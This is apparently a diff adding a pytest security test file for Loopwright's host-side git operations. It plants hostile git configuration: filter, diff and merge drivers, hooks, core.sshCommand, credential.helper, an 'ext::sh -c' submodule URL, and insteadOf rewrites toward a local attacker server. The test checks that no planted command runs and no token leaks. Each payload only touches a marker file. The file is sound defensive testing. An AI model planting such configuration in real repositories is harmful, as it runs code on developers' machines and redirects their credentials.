@@ -1,0 +1,473 @@
+"""Host-side git on hostile trees (SECURITY 35, 36), with real git and a real git server.
+
+A repository (or a patch) carries every way a tree can configure git: `.gitconfig`,
+`.config/git/config`, `.gitattributes` selecting filter, diff and merge drivers,
+`include.path`/`includeIf`, pager, fsmonitor and hooksPath settings, hooks, `.gitmodules`
+with a command and an `ext::` URL, a gitlink and a nested repository. Each driver would
+touch a file in a marker directory outside every tree. Each host operation (snapshot,
+clone, local export, apply, the deliver-time `git diff --stat`, clone_at, commit_patch,
+push_branch, remote_branch) must still work, and the marker directory must stay empty.
+Planted `insteadOf`/`pushInsteadOf` rewrites point at a git server of the test's own on
+127.0.0.1 that demands credentials: it must never see a token.
+"""
+
+from __future__ import annotations
+
+import base64
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from loopwright import git as host_git
+from loopwright.config import SandboxLimits
+from loopwright.github.gitops import GitError, clone_at, commit_patch, push_branch, remote_branch
+from loopwright.sandbox.local import LocalProvider
+from loopwright.sandbox.workspace import apply_patch, clone, export_patch, git, snapshot
+from tests.conftest import git as run_test_git
+from tests.conftest import init_repo
+from tests.fakes.git_server import GitServer
+
+TOKEN = "ghs_HOSTGITTOKEN0123456789abcdef"
+ATTACKER_TOKEN = "ghs_ATTACKERWANTSATOKEN000000000"
+HOOKS = (
+    "pre-commit", "post-commit", "post-checkout", "pre-push", "reference-transaction",
+    "post-index-change", "pre-auto-gc", "post-merge", "commit-msg", "prepare-commit-msg",
+)  # fmt: skip
+
+
+def evil_config(markers: Path) -> str:
+    """A git config that runs a command through every setting that can run one."""
+
+    def run(name: str) -> str:
+        return f"touch {markers}/{name}; cat"
+
+    return f"""[filter "evil"]
+\tclean = {run("filter-clean")}
+\tsmudge = {run("filter-smudge")}
+\tprocess = touch {markers}/filter-process
+\trequired = true
+[diff "evil"]
+\ttextconv = {run("diff-textconv")}
+\tcommand = touch {markers}/diff-command
+[merge "evil"]
+\tdriver = touch {markers}/merge-driver
+[diff]
+\texternal = touch {markers}/diff-external
+[core]
+\tpager = touch {markers}/core-pager
+\tfsmonitor = touch {markers}/core-fsmonitor
+\thooksPath = hooks
+\tsshCommand = touch {markers}/core-ssh
+\taskPass = touch {markers}/core-askpass
+[credential]
+\thelper = !touch {markers}/credential-helper
+[include]
+\tpath = evil-include.cfg
+[includeIf "gitdir:/"]
+\tpath = evil-include.cfg
+"""
+
+
+def install_hooks(hooks: Path, markers: Path) -> None:
+    hooks.mkdir(parents=True, exist_ok=True)
+    for name in HOOKS:
+        hook = hooks / name
+        hook.write_text(f"#!/bin/sh\ntouch {markers}/hook-{name}\n")
+        hook.chmod(0o755)
+
+
+def plant(tree: Path, markers: Path) -> None:
+    """Every git configuration a tree can carry, as files in the tree."""
+    config = evil_config(markers)
+    (tree / ".gitconfig").write_text(config)
+    (tree / ".config" / "git").mkdir(parents=True, exist_ok=True)
+    (tree / ".config" / "git" / "config").write_text(config)
+    (tree / ".config" / "git" / "attributes").write_text("* filter=evil diff=evil\n")
+    (tree / "evil-include.cfg").write_text(
+        f"[core]\n\tfsmonitor = touch {markers}/include-fsmonitor\n"
+        f"[diff]\n\texternal = touch {markers}/include-diff-external\n"
+    )
+    (tree / ".gitattributes").write_text("* filter=evil diff=evil merge=evil\n")
+    (tree / ".gitmodules").write_text(
+        '[submodule "sub"]\n\tpath = sub\n'
+        f"\turl = ext::sh -c touch% {markers}/gitmodules-ext\n"
+        f"\tupdate = !touch {markers}/gitmodules-update\n"
+    )
+    install_hooks(tree / "hooks", markers)
+
+
+@pytest.fixture
+def markers(tmp_path: Path) -> Path:
+    where = tmp_path / "markers"
+    where.mkdir()
+    return where
+
+
+@pytest.fixture
+def hostile(tmp_path: Path, markers: Path) -> Path:
+    """A user's repository that carries every tree-level git configuration, a gitlink, an
+    untracked nested repository with its own hostile config, and hooks in its `.git`."""
+    tree = tmp_path / "hostile"
+    tree.mkdir()
+    (tree / "app.py").write_text("def add(a, b):\n    return a - b\n")
+    plant(tree, markers)
+    init_repo(tree)
+    blob = run_test_git("rev-parse", "HEAD", cwd=tree).strip()
+    run_test_git("update-index", "--add", "--cacheinfo", f"160000,{blob},sub", cwd=tree)
+    run_test_git("commit", "-qm", "a submodule entry", cwd=tree)
+    nested = tree / "vendor" / "nested"
+    nested.mkdir(parents=True)
+    (nested / "lib.py").write_text("y = 2\n")
+    init_repo(nested)
+    with (nested / ".git" / "config").open("a") as config:
+        config.write(evil_config(markers))
+    (nested / ".gitattributes").write_text("* filter=evil diff=evil\n")
+    install_hooks(nested / ".git" / "hooks", markers)
+    install_hooks(tree / ".git" / "hooks", markers)
+    assert list(markers.iterdir()) == []
+    return tree
+
+
+PATCH = """diff --git a/app.py b/app.py
+--- a/app.py
++++ b/app.py
+@@ -1,2 +1,2 @@
+ def add(a, b):
+-    return a - b
++    return a + b
+"""
+
+
+def _new_file(path: str, lines: list[str]) -> str:
+    added = "".join(f"+{line}\n" for line in lines)
+    return (
+        f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n"
+        f"+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n{added}"
+    )
+
+
+def hostile_patch(markers: Path) -> str:
+    """The fix plus a new package whose `.gitattributes` selects drivers for its files and
+    whose `.gitconfig` (and a root `.gitconfig.d` include target) define them."""
+    return (
+        PATCH
+        + _new_file("pkg/.gitattributes", ["* filter=evil diff=evil merge=evil"])
+        + _new_file("pkg/.gitconfig", evil_config(markers).splitlines())
+        + _new_file("pkg/.config/git/config", evil_config(markers).splitlines())
+        + _new_file("pkg/mod.py", ["z = 3"])
+    )
+
+
+def assert_nothing_ran(markers: Path) -> None:
+    assert sorted(p.name for p in markers.iterdir()) == []
+
+
+def test_snapshot_of_a_hostile_repository_runs_nothing_security_35(
+    hostile: Path, tmp_path: Path, markers: Path
+) -> None:
+    base = tmp_path / "base"
+    head = snapshot(hostile, base)
+    assert_nothing_ran(markers)
+    assert head == run_test_git("rev-parse", "HEAD", cwd=hostile).strip()
+    files = set(git(["ls-files"], base).split())
+    # The tree's git files are kept as content; the gitlink and the nested repository are not.
+    assert {"app.py", ".gitattributes", ".gitconfig", ".gitmodules", "evil-include.cfg"} <= files
+    assert "sub" not in files and not any(f.startswith("vendor/") for f in files)
+    assert not (base / "vendor").exists()
+    assert (base / ".gitconfig").read_text() == (hostile / ".gitconfig").read_text()
+
+
+def test_clone_of_a_hostile_repository_runs_no_smudge_or_hook_security_35(
+    hostile: Path, tmp_path: Path, markers: Path
+) -> None:
+    copy = clone(f"file://{hostile}", tmp_path / "trees" / "clone")
+    assert_nothing_ran(markers)
+    assert (copy / "app.py").read_text() == (hostile / "app.py").read_text()
+    assert not (copy / "sub" / ".git").exists()
+
+
+def test_apply_and_deliver_diff_stat_on_a_hostile_tree_run_nothing_security_35(
+    hostile: Path, markers: Path
+) -> None:
+    apply_patch(hostile, hostile_patch(markers))
+    stat = git(["diff", "--stat"], hostile)
+    assert_nothing_ran(markers)
+    assert "app.py" in stat and "1 file changed" in stat
+    assert "a + b" in (hostile / "app.py").read_text()
+    assert (
+        hostile / "pkg" / ".gitattributes"
+    ).read_text() == "* filter=evil diff=evil merge=evil\n"
+    assert (hostile / "pkg" / "mod.py").read_text() == "z = 3\n"
+    # The log and show paths, which a delivery summary could use, run no drivers either.
+    git(["log", "-p", "-1"], hostile)
+    git(["show", "HEAD"], hostile)
+    assert_nothing_ran(markers)
+
+
+def test_local_export_of_a_hostile_agent_tree_runs_nothing_security_35(
+    hostile: Path, tmp_path: Path, markers: Path
+) -> None:
+    base = tmp_path / "base"
+    snapshot(hostile, base)
+    provider = LocalProvider(SandboxLimits(), base_dir=tmp_path / "sandboxes")
+    try:
+        sandbox = provider.create("m1", base, network=False)
+        work = sandbox.workspace
+        (work / "app.py").write_text("def add(a, b):\n    return a + b\n")
+        # What an agent could write in local mode: its own `.git/config` and hooks, tree
+        # config files, and a nested repository of its own.
+        with (work / ".git" / "config").open("a") as config:
+            config.write(evil_config(markers))
+        install_hooks(work / ".git" / "hooks", markers)
+        (work / ".gitattributes").write_text("* filter=evil diff=evil merge=evil\n# new\n")
+        (work / "deep").mkdir()
+        plant(work / "deep", markers)
+        nested = work / "planted"
+        nested.mkdir()
+        (nested / "x.txt").write_text("x\n")
+        init_repo(nested)
+        with (nested / ".git" / "config").open("a") as config:
+            config.write(evil_config(markers))
+        # A nested repository without any commit, inside a new directory, with a name
+        # that is a glob pattern.
+        empty = work / "newpkg" / "[e]mpty*"
+        empty.mkdir(parents=True)
+        (empty / "y.txt").write_text("y\n")
+        (work / "newpkg" / "kept.py").write_text("k = 1\n")
+        run_test_git("init", "-q", cwd=empty)
+        assert_nothing_ran(markers)
+
+        patch = export_patch(sandbox, timeout_s=60, base=base)
+    finally:
+        provider.close()
+    assert_nothing_ran(markers)
+    assert "+    return a + b" in patch
+    assert "diff --git a/.gitattributes b/.gitattributes" in patch
+    assert "diff --git a/deep/.gitconfig b/deep/.gitconfig" in patch
+    assert "planted" not in patch and "Subproject commit" not in patch
+    assert "empty" not in patch and "diff --git a/newpkg/kept.py b/newpkg/kept.py" in patch
+
+
+def test_a_patch_writing_into_a_nested_git_directory_is_refused_security_35(
+    tmp_path: Path, markers: Path
+) -> None:
+    tree = tmp_path / "tree"
+    tree.mkdir()
+    (tree / "app.py").write_text("x = 1\n")
+    init_repo(tree)
+    for where in (".git/hooks/post-commit", "sub/.git/config", "sub/.GIT/hooks/pre-commit"):
+        patch = (
+            f"diff --git a/{where} b/{where}\nnew file mode 100755\n--- /dev/null\n"
+            f"+++ b/{where}\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+touch {markers}/planted\n"
+        )
+        with pytest.raises(Exception, match=r"git apply failed: .*invalid path"):
+            apply_patch(tree, patch)
+    run_test_git("commit", "-q", "--allow-empty", "-m", "hooks would run here", cwd=tree)
+    assert_nothing_ran(markers)
+    assert not (tree / "sub").exists()
+
+
+@pytest.fixture
+def served(hostile: Path, tmp_path: Path):
+    """The hostile repository on a real git server that checks the token, and an attacker's
+    git server on 127.0.0.1 that demands credentials and records every request."""
+    (tmp_path / "srv").mkdir()
+    (tmp_path / "evil").mkdir()
+    with (
+        GitServer(tmp_path / "srv", token=TOKEN) as server,
+        GitServer(tmp_path / "evil", token=ATTACKER_TOKEN) as attacker,
+    ):
+        server.create_repo("octo/app", hostile)
+        server.create_repo("octo/other", hostile)
+        attacker.create_repo("octo/app", hostile)
+        yield server, attacker, run_test_git("rev-parse", "HEAD", cwd=hostile).strip()
+
+
+def test_app_delivery_from_a_hostile_repository_runs_nothing_security_35(
+    served, tmp_path: Path, markers: Path
+) -> None:
+    server, attacker, sha = served
+    url = server.repo_url("octo/app")
+    tree = clone_at(url, sha, tmp_path / "clone", TOKEN)
+    assert remote_branch(tree, "loopwright/fix-1", sha, TOKEN, url=url) is None
+    commit = commit_patch(tree, hostile_patch(markers), "Fix add", "m1")
+    push_branch(tree, "loopwright/fix-1", TOKEN, replace=None, url=url)
+    branch = remote_branch(tree, "loopwright/fix-1", sha, TOKEN, url=url)
+    assert_nothing_ran(markers)
+    assert branch is not None and branch.sha == commit and branch.ours
+    bare = server.root / "octo/app.git"
+    assert run_test_git("rev-parse", "loopwright/fix-1", cwd=bare).strip() == commit
+    shown = run_test_git("show", "--stat", "--format=", commit, cwd=bare)
+    assert "pkg/.gitattributes" in shown and "pkg/.gitconfig" in shown and "app.py" in shown
+    assert attacker.requests == []
+
+
+def _rewrite(attacker: GitServer, server: GitServer) -> str:
+    return (
+        f'[url "{attacker.url}/"]\n\tinsteadOf = {server.url}/\n'
+        f'[url "{attacker.url}/octo/"]\n\tpushInsteadOf = {server.url}/octo/\n'
+    )
+
+
+def test_tree_level_insteadof_and_pushinsteadof_never_redirect_security_36(
+    served, hostile: Path, tmp_path: Path, markers: Path
+) -> None:
+    server, attacker, _ = served
+    # The repository's tree-level config files rewrite the server's URL to the attacker's.
+    for rel in (".gitconfig", ".config/git/config"):
+        with (hostile / rel).open("a") as config:
+            config.write(_rewrite(attacker, server))
+    bare = server.root / "octo/app.git"
+    no_hooks = ["-c", "core.hooksPath=/dev/null"]  # the test's own git runs no planted hook
+    run_test_git(*no_hooks, "add", "-A", cwd=hostile)
+    run_test_git(*no_hooks, "commit", "-qm", "rewrite urls", cwd=hostile)
+    run_test_git(*no_hooks, "push", "-q", str(bare), "HEAD:refs/heads/main", cwd=hostile)
+    sha = run_test_git("rev-parse", "HEAD", cwd=hostile).strip()
+    url = server.repo_url("octo/app")
+
+    tree = clone_at(url, sha, tmp_path / "clone", TOKEN)
+    assert "insteadOf" in (tree / ".gitconfig").read_text()
+    commit = commit_patch(tree, PATCH, "Fix add", "m1")
+    push_branch(tree, "loopwright/fix-2", TOKEN, replace=None, url=url)
+
+    assert attacker.requests == []
+    assert run_test_git("rev-parse", "loopwright/fix-2", cwd=bare).strip() == commit
+    assert_nothing_ran(markers)
+
+
+@pytest.mark.parametrize("key", ["insteadOf", "pushInsteadOf"])
+def test_rewrite_in_the_clones_own_config_is_refused_before_any_request_security_36(
+    served, tmp_path: Path, key: str
+) -> None:
+    server, attacker, sha = served
+    url = server.repo_url("octo/app")
+    tree = clone_at(url, sha, tmp_path / "clone", TOKEN)
+    commit_patch(tree, PATCH, "Fix add", "m1")
+    with (tree / ".git" / "config").open("a") as config:
+        config.write(f'[url "{attacker.url}/"]\n\t{key} = {server.url}/\n')
+    before = len(server.requests)
+    with pytest.raises(GitError) as err:
+        push_branch(tree, "loopwright/fix-3", TOKEN, replace=None, url=url)
+    assert f"sets url.{attacker.url}/.{key.lower()}" in str(err.value)
+    assert "fresh clone" in str(err.value) and TOKEN not in str(err.value)
+    with pytest.raises(GitError, match="never writes"):
+        remote_branch(tree, "loopwright/fix-3", sha, TOKEN, url=url)
+    assert attacker.requests == [] and len(server.requests) == before
+
+
+@pytest.mark.parametrize(
+    "planted",
+    [
+        "[http]\n\textraHeader = X-Planted: 1\n",
+        "[credential]\n\thelper = store\n",
+        '[remote "origin"]\n\turl = http://127.0.0.1:9/x.git\n',
+        "[include]\n\tpath = /tmp/anything.cfg\n",
+        "[core]\n\tsshCommand = ssh -o ProxyCommand=true\n",
+    ],
+    ids=["http", "credential", "remote", "include", "ssh-command"],
+)
+def test_other_routing_settings_in_the_clone_config_are_refused_security_36(
+    served, tmp_path: Path, planted: str
+) -> None:
+    server, _, sha = served
+    url = server.repo_url("octo/app")
+    tree = clone_at(url, sha, tmp_path / "clone", TOKEN)
+    with (tree / ".git" / "config").open("a") as config:
+        config.write(planted)
+    with pytest.raises(GitError, match="which Loopwright never writes"):
+        push_branch(tree, "loopwright/fix-4", TOKEN, replace=None, url=url)
+
+
+def _authorizations(listener: GitServer) -> set[str]:
+    return {r["authorization"] for r in listener.requests}
+
+
+def test_credential_helper_gives_a_second_remote_nothing_security_36(
+    served, tmp_path: Path
+) -> None:
+    """The runner's helper is scoped to the computed URL: a push that reaches any other
+    URL (another host, or another repository on the same host) carries no token."""
+    server, attacker, sha = served
+    url = server.repo_url("octo/app")
+    tree = clone_at(url, sha, tmp_path / "clone", TOKEN)
+    commit_patch(tree, PATCH, "Fix add", "m1")
+    for other, listener in (
+        (attacker.repo_url("octo/app"), attacker),
+        (server.repo_url("octo/other"), server),
+    ):
+        listener.requests.clear()
+        proc = host_git.run(
+            ["push", "--quiet", other, "HEAD:refs/heads/stolen"], tree, remote=url, token=TOKEN
+        )
+        assert proc.returncode != 0
+        assert "terminal prompts disabled" in proc.stderr or "Authentication" in proc.stderr
+        assert listener.requests, "git never reached the listener"
+        assert _authorizations(listener) == {""}
+    # The computed URL itself does get the token.
+    server.requests.clear()
+    push_branch(tree, "loopwright/fix-5", TOKEN, replace=None, url=url)
+    expected = "Basic " + base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
+    assert _authorizations(server) - {""} == {expected}
+
+
+def test_the_token_never_reaches_argv_or_the_clone_config_security_36(
+    served, tmp_path: Path
+) -> None:
+    server, _, sha = served
+    tree = clone_at(server.repo_url("octo/app"), sha, tmp_path / "clone", TOKEN)
+    assert TOKEN not in (tree / ".git" / "config").read_text()
+    assert "remote" not in (tree / ".git" / "config").read_text()
+    with pytest.raises(GitError) as err:
+        clone_at(server.repo_url("octo/app"), sha, tmp_path / "again", "ghs_WRONG0000000000")
+    assert "ghs_WRONG0000000000" not in str(err.value)
+
+
+def test_submodule_recursion_never_happens_on_a_push_security_35(
+    served, tmp_path: Path, markers: Path
+) -> None:
+    server, _, sha = served
+    url = server.repo_url("octo/app")
+    tree = clone_at(url, sha, tmp_path / "clone", TOKEN)
+    ran = subprocess.run(["git", "-C", str(tree), "ls-files", "-s", "sub"], capture_output=True,
+                         text=True, check=True).stdout  # fmt: skip
+    assert ran.startswith("160000 ")
+    commit_patch(tree, PATCH, "Fix add", "m1")
+    push_branch(tree, "loopwright/fix-6", TOKEN, replace=None, url=url)
+    assert not (tree / "sub" / ".git").exists()
+    assert_nothing_ran(markers)
+
+
+def test_a_patch_with_bytes_that_are_not_utf8_applies_exactly(tmp_path: Path) -> None:
+    tree = tmp_path / "tree"
+    tree.mkdir()
+    (tree / "latin1.txt").write_bytes(b"caf\xe9\n")
+    init_repo(tree)
+    (tree / "latin1.txt").write_bytes(b"caf\xe9 cr\xe8me\n")
+    raw = subprocess.run(["git", "diff"], cwd=tree, capture_output=True, check=True).stdout
+    run_test_git("checkout", "--", "latin1.txt", cwd=tree)
+    apply_patch(tree, raw.decode("utf-8", errors="surrogateescape"))
+    assert (tree / "latin1.txt").read_bytes() == b"caf\xe9 cr\xe8me\n"
+
+
+@pytest.mark.parametrize("key", ["insteadOf", "pushInsteadOf"])
+def test_a_followed_rewrite_still_gets_no_token_security_36(
+    served, tmp_path: Path, key: str
+) -> None:
+    """The second line of defence under the config check: if git does follow a rewrite
+    in the clone's own config, the helper is scoped to the computed URL, so the
+    rewritten request carries no token."""
+    server, attacker, sha = served
+    url = server.repo_url("octo/app")
+    tree = clone_at(url, sha, tmp_path / "clone", TOKEN)
+    commit_patch(tree, PATCH, "Fix add", "m1")
+    with (tree / ".git" / "config").open("a") as config:
+        config.write(f'[url "{attacker.url}/"]\n\t{key} = {server.url}/\n')
+    server.requests.clear()
+    proc = host_git.run(
+        ["push", "--quiet", url, "HEAD:refs/heads/rewritten"], tree, remote=url, token=TOKEN
+    )
+    assert proc.returncode != 0 and TOKEN not in proc.stderr
+    assert attacker.requests, "the rewrite was not followed"
+    assert _authorizations(attacker) == {""}
+    assert server.requests == []
